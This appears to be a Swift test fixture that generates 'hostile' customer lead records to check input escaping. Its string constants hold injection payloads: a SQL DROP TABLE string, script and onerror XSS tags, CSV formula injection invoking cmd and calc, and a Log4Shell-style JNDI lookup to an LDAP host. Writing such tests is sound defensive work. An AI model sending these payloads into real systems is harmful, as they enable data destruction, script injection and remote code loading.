extension CustomerFactory {
    // Every hostile lead carries each of: an apostrophe (last name and email: the O'Brien case
    // for OData and SOQL literals), `&` and `<` (company: HTML/XML), a leading `=` (title: CSV
    // formula injection) and a newline (description).
    static let hostileFirstNames = ["Seán \"Johnny\"", "Mary-Kate \\ Ann", "Robert'); DROP TABLE leads;--"]
    static let hostileLastNames = ["O'Brien", "O'Neil-D'Arcy", "D'Angelo"]
    static let hostileCompanies = [
        "Smith & Sons <script>alert('x')</script>",
        "AT&T <b>Reseller</b>",
        "Ben & Jerry's <img src=x onerror=alert(1)>",
    ]
    static let hostileTitles = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.com/x\",\"CTO\")", "=1+1"]
    static let hostileTail =
        "\nLine two: O'Brien & Sons <script>alert(\"x\")</script>\r\nback\\slash, 100% %27 %00, \ttab, {\"json\": true}, ${jndi:ldap://example.com/a}"

    func hostile(_ rng: inout SeededGenerator) -> (CustomerInfo, String) {
        let customer = CustomerInfo(
            firstName: rng.pick(Self.hostileFirstNames),
            lastName: rng.pick(Self.hostileLastNames),
            // `+` becomes a space if a form encoder forgets to escape it; `'` breaks unescaped
            // filters. Both are legal in a local part.
            email: "\(markerLocalPart)+o'brien@\(Self.emailDomain)",
            phone: "+1 (425) 555-0100 ext. \(rng.below(90) + 10)",
            country: table.country,
            company: rng.pick(Self.hostileCompanies),
            title: rng.pick(Self.hostileTitles)
        )
        return (customer, marker + Self.hostileTail)
    }
}
